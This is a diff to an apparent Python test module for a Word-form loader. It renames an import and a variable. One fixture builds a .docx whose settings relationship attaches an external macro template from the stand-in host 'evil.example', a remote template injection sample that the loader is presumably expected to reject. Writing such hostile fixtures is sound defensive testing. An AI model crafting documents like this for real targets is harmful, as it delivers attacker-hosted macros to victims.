@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 from word_documents import W, a_document, p, packed, parts_of, with_body
 from wrong_files import compound
 
-from forms.questionnaire.template import load
+from forms.questionnaire.shipped import load
 from forms.word import open_document, word_form
 from forms.word.opening import REASONS
 
@@ -33,12 +33,12 @@ def with_more(**parts: bytes) -> bytes:
 
 def reaching_out() -> bytes:
     parts = parts_of(BLANK)
-    template = (
+    questionnaire = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
         'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
         'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
     )
-    return packed({**parts, "word/_rels/settings.xml.rels": template.encode()})
+    return packed({**parts, "word/_rels/settings.xml.rels": questionnaire.encode()})
 
 
 def locked_zip() -> bytes:
